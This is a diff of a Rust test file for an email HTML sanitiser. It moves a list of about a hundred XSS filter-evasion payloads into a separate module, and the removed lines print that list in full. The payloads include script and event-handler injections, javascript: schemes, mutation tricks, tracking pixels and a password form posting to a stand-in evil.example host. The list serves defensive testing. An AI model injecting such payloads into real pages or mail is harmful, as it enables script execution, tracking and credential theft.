@@ -1,7 +1,10 @@
 //! What is left of hostile, broken and ordinary HTML.
 
+mod attacks;
+
 use std::time::{Duration, Instant};
 
+use attacks::ATTACKS;
 use proptest::prelude::*;
 
 use crate::channel::email::html::{MAX_BYTES, sanitise};
@@ -62,123 +65,6 @@ fn assert_harmless(html: &str) {
         }
     }
 }
-
-/// By category of the OWASP cheat sheet on evading filters, in our own words.
-const ATTACKS: &[&str] = &[
-    // Script elements, whole, broken, nested and disguised.
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<script/src=data:,alert(1)>",
-    "<script\n>alert(1)</script\t\n bar>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<<script>alert(1);//<</script>",
-    "<script>alert(1)",
-    "<script x='</script>'>alert(1)</script>",
-    "<!--<script>-->alert(1)<!--</script>-->",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version=1?><script>alert(1)</script>",
-    // Event handlers.
-    "<img src=x onerror=alert(1)>",
-    "<img src=x:x onerror =\n alert(1)>",
-    "<img/src=x/onerror=alert(1)>",
-    "<img src=\"x\"onerror=\"alert(1)\">",
-    "<img src=`x`onerror=alert(1)>",
-    "<body onload=alert(1)>",
-    "<div onmouseover='alert(1)' ONCLICK=alert(1)>x</div>",
-    "<p style=\"animation:x\" onanimationstart=alert(1)>x",
-    "<a href=https://a.example onfocus=alert(1) autofocus>x</a>",
-    "<a \x0conclick=alert(1) href=https://a.example>x</a>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<table background=javascript:alert(1)><td background=\"javascript:alert(1)\" onclick=alert(1)>x",
-    "<b/onclick=alert(1)//>x</b>",
-    "<img alt=\"a\" title=\"'onerror=alert(1)\" src=\"cid:x\">",
-    // Schemes.
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
-    "<a href=\" \x01javascript:alert(1)\">x</a>",
-    "<a href=\"java\tscript:alert(1)\">x</a>",
-    "<a href=\"java&#10;script:alert(1)\">x</a>",
-    "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
-    "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
-    "<a href=vbscript:msgbox(1)>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
-    "<a href=file:///etc/passwd>x</a>",
-    "<a href=\"//evil.example\">x</a>",
-    "<a href=\"/relative\">x</a>",
-    "<a href=blob:https://a.example/1>x</a>",
-    "<a href=attachment:att_1>x</a>",
-    "<a href=\"https:javascript:alert(1)\">x</a>",
-    "<area href=javascript:alert(1)>",
-    "<a xlink:href=javascript:alert(1)>x</a>",
-    // What loads, embeds or moves the page.
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<base href=javascript:alert(1)//>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
-    "<applet code=x></applet>",
-    "<portal src=javascript:alert(1)></portal>",
-    // Images that tell that a mail was read.
-    "<img src=https://evil.example/pixel.gif width=1 height=1>",
-    "<img src=//evil.example/p.gif>",
-    "<img src=data:image/svg+xml;base64,AAAA>",
-    "<img srcset='https://evil.example/p.gif 1x' src=cid:none>",
-    "<img src='cid:x' src='https://evil.example'>",
-    "<picture><source srcset=https://evil.example/p.gif><img src=x></picture>",
-    "<input type=image src=https://evil.example/p.gif>",
-    // Styles.
-    "<style>@import 'https://evil.example';</style>",
-    "<style>body{background:url(javascript:alert(1))}</style>",
-    "<div style='background:url(https://evil.example/p.gif)'>x</div>",
-    "<div style=\"width:expression(alert(1))\">x</div>",
-    "<div style=\"behavior:url(x.htc);-moz-binding:url(x)\">x</div>",
-    // Forms.
-    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
-    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
-    "<isindex action=javascript:alert(1) type=image>",
-    // Other languages and mutations.
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
-    "<math href=javascript:alert(1)>x</math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
-    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
-    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
-    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
-    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\">",
-    "<template><script>alert(1)</script></template>",
-    "<select><template><style><a title=\"</style><img src onerror=alert(1)>\">",
-    "<plaintext><script>alert(1)</script>",
-    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
-    // Encodings and broken syntax.
-    "\u{FEFF}<scr\0ipt>alert(1)</scr\0ipt>",
-    "<img src=x on\0error=alert(1)>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
-    "<a href=\"https://a.example/\"\"onclick=alert(1)\">x</a>",
-    "<a title='\"><script>alert(1)</script>' href=https://a.example>x</a>",
-    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
-    "<div class=\"\"><a b=\"<c title='\"><img src=x onerror=alert(1)>'>",
-    "</br style=a:expression(alert(1))>",
-    "</p onclick=alert(1)>",
-    "<!doctype html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
-    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
-    "<html xmlns:x><x onclick=alert(1)>x</x>",
-    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-];
 
 #[test]
 fn no_attack_of_the_list_leaves_anything_that_runs_or_loads() {
